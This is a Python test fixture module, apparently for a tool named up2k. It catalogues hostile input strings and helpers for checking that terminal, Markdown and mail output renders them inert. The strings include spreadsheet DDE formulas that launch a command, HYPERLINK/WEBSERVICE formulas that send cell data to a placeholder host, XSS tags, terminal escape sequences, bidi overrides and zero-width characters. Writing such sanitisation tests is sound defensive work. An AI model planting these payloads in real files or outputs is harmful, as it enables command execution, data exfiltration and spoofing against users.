"""Hostile strings, and how to tell that an output shows one as text rather than acting on it.

Each string is what a careless or hostile hand could put in a name, an address, a note or a
reason: spreadsheet formulas, Rich markup, terminal escapes (incl. OSC-8 hyperlinks and the 8-bit
CSI), bidi overrides, zero-width characters, Markdown and HTML.
"""

from __future__ import annotations

import re
import unicodedata

HOSTILE: dict[str, str] = {
    # spreadsheet formulas (and DDE)
    "formula-hyperlink": '=HYPERLINK("http://x.example/?nik="&B2,"Klik")',
    "formula-webservice": '=WEBSERVICE("http://x.example/"&C2)',
    "formula-plus-dde": "+cmd|' /C calc'!A0 Ani",
    "formula-minus": "-2+3+cmd|' /C calc'!A0 Ani",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0 Ani",
    "formula-tab": "\t=1+1 Ani",
    "formula-cr": "\r=1+1 Ani",
    "formula-quoted": "'=already guarded Ani",
    # Rich markup
    "rich-close": "Ani [/] Dua",
    "rich-link": "[link=http://evil.example]Klik[/link] Ani",
    "rich-hide": "[white on white]hidden[/] Ani",
    "rich-bold": "[bold red]Ani[/bold red]",
    # terminal escapes
    "esc-csi": "Ani \x1b[31mMerah\x1b[0m",
    "esc-clear": "Ani\x1b[2J\x1b[H",
    "esc-osc8": "\x1b]8;;http://evil.example\x07Klik\x1b]8;;\x07 Ani",
    "esc-title": "Ani\x1b]0;owned\x07",
    "esc-bel": "Ani\x07\x07",
    "esc-c1-csi": "Ani \x9b31mMerah",
    "esc-del": "Ani\x7f\x7fDua",
    "esc-newline": "Ani\nK9999 fake row",
    # bidi overrides and isolates
    "bidi-rlo": "Ani \u202eaud\u202c Dua",
    "bidi-isolate": "Ani \u2067Dua\u2069",
    # zero-width and other invisible characters
    "zw-space": "Ani\u200bSatu",
    "zw-joiner": "Ani\u200d\u200cSatu",
    "zw-bom": "\ufeffAni Satu",
    "zw-tag": "Ani\U000e0041\U000e0042",
    # Markdown and HTML
    "md-link": "[klik](http://evil.example) Ani",
    "md-image": "![x](http://evil.example/x.png) Ani",
    "md-emphasis": "**Ani** _Dua_ `kode` ~~x~~",
    "md-pipe": "Ani | Dua | Tiga",
    "html-img": "<img src=x onerror=alert(1)> Ani",
    "html-script": "<script>alert(1)</script> Ani",
    "html-entity": "Ani &lt;b&gt; &#60;i&#62;",
}

# Input turns tabs and line ends into spaces (and trims them), so these are stored only by planting.
PLANT_ONLY = frozenset(key for key, text in HOSTILE.items() if set(text) & set("\t\r\n"))

# What no terminal or plain-text output may carry raw: controls but the line end, format
# characters (zero-width, bidi, tags), line and paragraph separators.
_UNSAFE_CATEGORIES = ("Cc", "Cf", "Zl", "Zp")


def unsafe_chars(text: str, *, allow: str = "\n") -> set[str]:
    """The characters in `text` a terminal would act on (or that hide text)."""
    return {ch for ch in set(text) if unicodedata.category(ch) in _UNSAFE_CATEGORIES and ch not in allow}


ESCAPE_SEQUENCE = re.compile(r"\x1b(\[[0-9;]*[A-Za-z]|\][^\x07\x1b]*(\x07|\x1b\\)|.)")
# The only sequences up2k writes itself on a terminal: bold on, and the reset after it.
OWN_STYLES = {"\x1b[1m", "\x1b[0m", "\x1b[22m", "\x1b[m"}

# Markup that must never come out of data once a Markdown mail body is rendered.
RENDERED_MARKUP = re.compile(r"<(a|img|script|em|strong|code|del|s)\b", re.IGNORECASE)
